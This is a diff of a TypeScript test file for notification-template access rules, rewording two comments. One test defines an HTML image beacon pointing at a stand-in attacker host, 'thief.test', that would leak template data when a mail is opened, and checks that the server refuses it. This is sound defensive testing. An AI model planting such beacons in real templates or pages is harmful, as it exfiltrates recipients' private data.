@@ -5,7 +5,7 @@ import { idOf } from '../../../test/examples/example.ts';
 import { until } from '../../../test/until.ts';
 import { decodeId } from '../../kit/ids.ts';
 
-// Decision 0181: nobody has others told what it may not read, and nobody reads what others were told of it.
+// Decision 0181: nobody can have others notified of what they may not read, or read what others were notified of.
 
 let app: TestApp;
 let organization: TestOrganization;
@@ -56,7 +56,7 @@ test('the text of a mail, too, is written by someone who may read what it contai
   };
   const templates = [words('contacts', '<p>{{message}}</p>'), words('offers', '<p>{{message}}</p>')];
   assert.equal((await configure(organization.owner, { ...rules, templates })).status, 200);
-  // Whoever opens such a mail tells the server of the picture what it says.
+  // Opening such a mail would reveal its content to the server of the picture.
   const beacon = '<img src="https://thief.test/?{{entityName}}">';
   const [contacts, offers] = templates as [object, object];
   const refused = await configure(herald, { templates: [words('contacts', beacon), offers] });
